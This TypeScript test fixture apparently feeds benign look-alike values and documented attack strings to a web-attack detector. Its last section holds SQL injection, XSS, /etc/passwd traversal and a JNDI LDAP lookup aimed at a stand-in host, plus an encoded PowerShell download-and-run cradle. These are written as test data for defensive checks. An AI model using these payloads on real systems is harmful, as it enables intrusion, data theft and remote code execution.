/**
 * Texts to keep, based on documentation and written before the first run. `§` represents the text; without it, the
 * entire template is kept.
 */
import type { LogRow } from '../../../../../src/service/model.ts';
import { type LookAlikeCase, lookAlikes } from '../case.ts';
import { FORM, get, JSON_TYPE, post, postText, postXml } from '../requests.ts';
import { Values } from '../values.ts';

const v = new Values(407);

const places = {
  q: (text: string) => get(text),
  f: (text: string) => post('/submit', FORM, text),
  j: (text: string) => post('/api', JSON_TYPE, text),
  x: (text: string) => postXml('/xml', text),
  t: (text: string) => postText('/paste', text),
  h: (text: string) =>
    get('/account', { [text.slice(0, text.indexOf(':'))]: text.slice(text.indexOf(':') + 1).trim() }),
};

type Line = readonly [place: keyof typeof places, keep: string, template: string];

function cases(name: string, source: string, lines: readonly Line[]): readonly LookAlikeCase[] {
  return lookAlikes(
    `documented: ${name}`,
    source,
    lines.map(([place, keep, template]) => [
      `documented ${name}: ${place} ${template}`,
      [keep || template],
      places[place](template.replaceAll('§', () => keep)),
    ]),
  );
}

const row = (
  text: string,
  more: Partial<LogRow>,
): readonly [string, readonly string[], string, Partial<LogRow>] => [
  `documented row: ${text}`,
  [text],
  '',
  more,
];

const JNDI = `$\{jndi:ldap://a.example/x}`;
const pixel =
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==';

export const documentedLookAlikes: readonly LookAlikeCase[] = [
  ...cases('hashes and identifiers', 'https://git-scm.com/docs/gitrevisions', [
    ['q', v.hex(40), '/repo/commit/§'],
    ['q', v.hex(7), '/repo/compare/main...§'],
    ['j', v.hex(40), '{"after":"§","ref":"refs/heads/main"}'],
    ['j', v.uuid(), '{"orderId":"§"}'],
    ['q', v.uuid(), '/v2/customers/§/orders'],
    ['h', `"${v.hex(32)}"`, 'If-None-Match: §'],
    ['h', `W/"${v.hex(10)}-${v.hex(8)}"`, 'If-Match: §'],
    ['h', `00-${v.hex(32)}-${v.hex(16)}-01`, 'traceparent: §'],
    ['h', `1-${v.hex(8)}-${v.hex(24)}`, 'X-Amzn-Trace-Id: Root=§'],
    ['j', `sha256:${v.hex(64)}`, '{"digest":"§","mediaType":"application/vnd.oci.image.manifest.v1+json"}'],
    ['q', v.hex(20), '/static/main.§.js'],
    ['q', `chunk-${v.upper(8)}`, '/assets/§.css'],
    ['j', '507f1f77bcf86cd799439011', '{"_id":"§"}'],
    ['j', '01ARZ3NDEKTSV4RRFFQ69G5FAV', '{"ulid":"§"}'],
    ['q', 'dQw4w9WgXcQ', '/watch?v=§'],
    ['j', v.base64(32), '{"integrity":"sha256-§"}'],
    ['h', v.uuid(), 'X-Request-Id: §'],
    ['q', 'arn:aws:s3:::shop-assets/2026/01', '/describe?arn=§'],
    ['j', '192.0.2.44', '{"clientIp":"§"}'],
    ['q', 'GA1.2.1033501218.1368477899', '/collect?cid=§'],
  ]),
  ...cases(
    'ordinary values',
    'https://semver.org',
    [
      ['j', '^18.2.0-next-ab12cd34', '{"dependencies":{"react":"§"}}'],
      ['q', 'summer-sale-2026-best-of-garden', '/blog/§'],
      ['q', '2026-01-31T12%3A00%3A00Z', '/events?since=§'],
      ['j', '#1f2a3bff', '{"color":"§"}'],
      ['t', 'rgba(12, 34, 56, 0.7)', '.a { color: §; }'],
      ['j', pixel, '{"avatar":"data:image/png;base64,§"}'],
      ['t', pixel, '<img src="data:image/png;base64,§">'],
      ['q', 'M10%2010L20%2020Z', '/icon?path=§'],
      ['j', 'Europe/Zurich', '{"timezone":"§"}'],
      ['j', '+41 44 668 18 00', '{"phone":"§"}'],
      ['j', 'CH9300762011623852957', '{"iban":"§"}'],
      ['q', 'token-bucket', '/docs/rate-limiting/§'],
      ['q', 'password-managers-compared', '/articles/§'],
      ['j', 'next_page_2', '{"cursor":"§"}'],
      ['j', 'ko-KR', '{"lang":"§","theme":"dark"}'],
      ['x', 'SE-4477-XL', '<sku>§</sku>'],
      ['q', '978-3-16-148410-0', '/books?isbn=§'],
      ['f', 'WELCOME', 'coupon=§&qty=2'],
      ['h', 'shop.example', 'X-Forwarded-Host: §'],
      ['t', '<p>Your password must have 12 characters.</p>', ''],
    ].map(([place, keep, template]) => [place, keep, template === '' ? '§' : template] as Line),
  ),
  ...cases('names that speak of secrets', 'https://openid.net/specs/openid-connect-discovery-1_0.html', [
    ['j', 'client_secret_basic', '{"token_endpoint_auth_method":"§"}'],
    ['j', 'https://id.example/token', '{"token_endpoint":"§"}'],
    ['j', '3600', '{"access_token_lifetime":§}'],
    ['j', 'at least 12 characters', '{"password_policy":"§"}'],
    ['q', 'password', '/login?grant_type=§'],
    ['j', 'S256', '{"code_challenge_method":"§"}'],
    ['q', 'invalid_token', '/cb?error=§'],
    ['f', 'forgot', 'action=§_password&user=anna'],
    ['j', 'cl100k_base', '{"tokenizer":"§","max_tokens":256}'],
    ['j', 'true', '{"requiresPassword":§}'],
  ]),
  ...lookAlikes('documented: attacks', 'https://owasp.org/www-project-web-security-testing-guide/', [
    [
      'documented attack in key',
      ["1' UNION SELECT password FROM users--"],
      post('/a', FORM, "id=1' UNION SELECT password FROM users--&x=1"),
    ],
    [
      'documented gwt attack',
      ["' OR 1=1--"],
      postText(
        '/gwt',
        "7|0|6|https://a.example/app/|29F4EA1240F157649C12466F01F46F60|com.acme.client.SearchService|find|java.lang.String/2004016611|' OR 1=1--|1|2|3|4|1|5|6|",
      ),
    ],
    [
      'documented dwr attack',
      ['string:<script>alert(1)</script>'],
      postText(
        '/dwr',
        'callCount=1\nc0-scriptName=Search\nc0-methodName=find\nc0-param0=string:<script>alert(1)</script>\n',
      ),
    ],
    [
      'documented powershell',
      ['-EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA'],
      postText(
        '/run',
        'powershell -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA',
      ),
    ],
    [
      'documented markdown table',
      ['| anna | admin |'],
      postText('/c', '| user | role |\n|---|---|\n| anna | admin |\n'),
    ],
    row("' OR password='x", { detectedValue: "' OR password='x", baseMessage: 'parameter id' }),
    row('<script>document.cookie</script>', {
      detectedValue: '<script>document.cookie</script>',
      baseMessage: 'parameter q',
    }),
    row('../../etc/passwd', { detectedValue: '../../etc/passwd', baseMessage: 'parameter file' }),
    row('{"user":"\' or 1=1--","role":"editor"}', {
      detectedValue: '{"user":"\' or 1=1--","role":"editor"}',
      baseMessage: 'JSON body',
    }),
    row(JNDI, {
      detectedValue: JNDI,
      baseMessage: 'parameter token',
    }),
  ]),
];
